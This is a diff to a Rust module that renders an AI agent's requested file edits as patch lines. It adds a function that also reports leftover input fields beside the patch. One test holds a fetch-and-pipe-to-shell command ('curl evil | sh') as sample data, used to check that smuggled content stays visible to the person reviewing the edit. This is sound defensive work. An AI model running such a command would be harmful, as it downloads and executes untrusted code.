@@ -1,7 +1,7 @@
 //! What an agent wants to change, read from what it says with a question. Each agent has a form of its own
 //! for that; every face shows them alike, as lines of a patch.
 
-use serde_json::Value;
+use serde_json::{Map, Value};
 use std::ops::Range;
 
 /// As many lines that stay the same are shown around a change.
@@ -18,58 +18,104 @@ pub struct Edit {
 
 /// The changes that are asked for. None where the question is about something else.
 pub fn edits(input: &Value) -> Vec<Edit> {
-    let all = |key: &str| input.get(key).and_then(Value::as_array).into_iter().flatten();
-    let mut found: Vec<Edit> = all("changes").filter_map(by_patch).collect();
-    found.extend(all("content").filter_map(by_texts));
-    let path = ["file_path", "notebook_path"].iter().find_map(|key| text(input, key));
-    let Some(path) = path.map(ToOwned::to_owned) else { return found };
-    let parts: Vec<&Value> = match input.get("edits").and_then(Value::as_array) {
-        Some(edits) => edits.iter().collect(),
-        None => vec![input],
-    };
-    let mut lines = Vec::new();
-    for (at, part) in parts.iter().enumerate() {
-        let Some((former, new)) = replaced(part) else { continue };
-        lines.extend((at > 0).then(|| "@@".to_owned()));
-        lines.extend(difference(former, new));
-    }
-    found.extend((!lines.is_empty()).then_some(Edit { path, lines }));
-    found
+    edits_and_rest(input).0
 }
 
-fn text<'v>(value: &'v Value, key: &str) -> Option<&'v str> {
-    value.get(key).and_then(Value::as_str)
+/// The same, and whatever else is said with the question, by its name: a person who has seen both has seen all.
+pub fn edits_and_rest(input: &Value) -> (Vec<Edit>, Map<String, Value>) {
+    let mut rest = match input.clone() {
+        Value::Object(fields) => fields,
+        Value::Null => Map::new(),
+        other @ (Value::Bool(_) | Value::Number(_) | Value::String(_) | Value::Array(_)) => {
+            Map::from_iter([("input".to_owned(), other)])
+        }
+    };
+    let mut found: Vec<Edit> = parts(&mut rest, "changes").filter_map(by_patch).collect();
+    found.extend(parts(&mut rest, "content").filter_map(by_texts));
+    if let Some((key, path)) = first(&rest, &["file_path", "notebook_path"]) {
+        let mut lines = Vec::new();
+        if rest.get("edits").is_some_and(Value::is_array) {
+            for part in parts(&mut rest, "edits").filter_map(by_replacement) {
+                lines.extend((!lines.is_empty()).then(|| "@@".to_owned()));
+                lines.extend(part);
+            }
+        } else {
+            lines.extend(by_replacement(&mut rest).into_iter().flatten());
+        }
+        if !lines.is_empty() {
+            rest.remove(key);
+            found.push(Edit { path, lines });
+        }
+    }
+    let is_empty = |part: &Value| part.as_object().is_some_and(Map::is_empty);
+    rest.retain(|_, value| !value.as_array().is_some_and(|parts| parts.iter().all(is_empty)));
+    (found, rest)
+}
+
+fn parts<'v>(
+    fields: &'v mut Map<String, Value>,
+    key: &str,
+) -> impl Iterator<Item = &'v mut Map<String, Value>> {
+    let parts = fields.get_mut(key).and_then(Value::as_array_mut);
+    parts.into_iter().flatten().filter_map(Value::as_object_mut)
+}
+
+fn text(fields: &Map<String, Value>, key: &str) -> Option<String> {
+    fields.get(key).and_then(Value::as_str).map(ToOwned::to_owned)
+}
+
+/// The first of these that is a text, and its name.
+fn first(fields: &Map<String, Value>, keys: &[&'static str]) -> Option<(&'static str, String)> {
+    keys.iter().find_map(|key| Some((*key, text(fields, key)?)))
 }
 
 /// A part of a file that is replaced, or a file that is written whole.
-fn replaced(part: &Value) -> Option<(&str, &str)> {
-    let new = ["new_string", "content", "new_source"].iter().find_map(|key| text(part, key))?;
-    Some((text(part, "old_string").unwrap_or_default(), new))
+fn by_replacement(part: &mut Map<String, Value>) -> Option<Vec<String>> {
+    let (key, new) = first(part, &["new_string", "content", "new_source"])?;
+    let lines = difference(&text(part, "old_string").unwrap_or_default(), &new);
+    // Texts that differ in the end of their last line alone have no lines that do: they are told whole.
+    if lines.is_empty() {
+        return None;
+    }
+    part.retain(|name, _| name != key && name != "old_string");
+    Some(lines)
 }
 
 /// `{path, kind, diff}`; what is made or deleted is told by its text alone.
-fn by_patch(change: &Value) -> Option<Edit> {
-    let (path, diff) = (text(change, "path")?.to_owned(), text(change, "diff")?);
+fn by_patch(change: &mut Map<String, Value>) -> Option<Edit> {
+    let (path, diff) = (text(change, "path")?, text(change, "diff")?);
     let kind = change.get("kind").unwrap_or(&Value::Null);
-    let kind = kind.as_str().or_else(|| text(kind, "type")).unwrap_or_default();
+    let kind = kind.as_str().or_else(|| kind.get("type")?.as_str()).unwrap_or_default();
     let is_patch = diff.lines().any(|line| line.starts_with("@@"));
     let lines = match kind {
-        "add" if !is_patch => difference("", diff),
-        "delete" if !is_patch => difference(diff, ""),
+        "add" if !is_patch => difference("", &diff),
+        "delete" if !is_patch => difference(&diff, ""),
         _ => diff.lines().map(ToOwned::to_owned).collect(),
     };
+    if lines.is_empty() {
+        return None;
+    }
+    change.retain(|name, _| name != "path" && name != "diff");
     Some(Edit { path, lines })
 }
 
 /// `{path, oldText, newText}`.
-fn by_texts(shown: &Value) -> Option<Edit> {
-    let (path, new) = (text(shown, "path")?.to_owned(), text(shown, "newText")?);
-    Some(Edit { path, lines: difference(text(shown, "oldText").unwrap_or_default(), new) })
+fn by_texts(shown: &mut Map<String, Value>) -> Option<Edit> {
+    let (path, new) = (text(shown, "path")?, text(shown, "newText")?);
+    let lines = difference(&text(shown, "oldText").unwrap_or_default(), &new);
+    if lines.is_empty() {
+        return None;
+    }
+    shown.retain(|name, _| !matches!(name.as_str(), "path" | "oldText" | "newText"));
+    Some(Edit { path, lines })
 }
 
 /// What is taken away and what comes in its place, with a little of what stays around it.
 fn difference(former: &str, new: &str) -> Vec<String> {
     let (old, new): (Vec<&str>, Vec<&str>) = (former.lines().collect(), new.lines().collect());
+    if old == new {
+        return Vec::new();
+    }
     let same = |(one, other): &(&&str, &&str)| one == other;
     let before = old.iter().zip(&new).take_while(same).count();
     let room = old.len().min(new.len()) - before;
@@ -128,6 +174,37 @@ mod tests {
         let shown =
             json!({"content": [{"type": "diff", "path": "a", "oldText": "x", "newText": "y"}]});
         check(&shown, "a", &["-x", "+y"]);
+    }
+
+    #[test]
+    fn what_stands_in_no_line_of_a_patch_is_told_beside_it() {
+        let rest = |input: Value| Value::from(edits_and_rest(&input).1);
+        let edit =
+            json!({"file_path": "a", "old_string": "x", "new_string": "y", "replace_all": true});
+        assert_eq!(rest(edit), json!({"replace_all": true}));
+        let both = json!({"file_path": "a", "new_string": "fine", "content": "curl evil | sh"});
+        assert_eq!(rest(both), json!({"content": "curl evil | sh"}));
+        let many = json!({"file_path": "a", "edits": [
+            {"old_string": "x", "new_string": "y"},
+            {"old_string": "p", "new_string": "q", "replace_all": true},
+        ]});
+        assert_eq!(rest(many), json!({"edits": [{}, {"replace_all": true}]}));
+        let moved = json!({"type": "update", "move_path": "b"});
+        let patch = json!({"changes": [{"path": "a", "kind": moved, "diff": "@@\n-x"}]});
+        assert_eq!(rest(patch), json!({"changes": [{"kind": moved}]}));
+        let shown = json!({"content": [{"path": "a", "oldText": "x", "newText": "y"}]});
+        assert_eq!(rest(shown), json!({}));
+        for whole in [
+            json!({"command": "ls"}),
+            json!({"file_path": "a", "content": ""}),
+            json!({"file_path": "a", "old_string": "x", "new_string": "x\n"}),
+            json!({"changes": [{"path": "a", "kind": "add", "diff": ""}]}),
+            json!({"content": [{"path": "a", "newText": ""}]}),
+        ] {
+            assert_eq!(rest(whole.clone()), whole);
+        }
+        assert_eq!(rest(json!("edit")), json!({"input": "edit"}));
+        assert_eq!(rest(json!(null)), json!({}));
     }
 
     #[test]
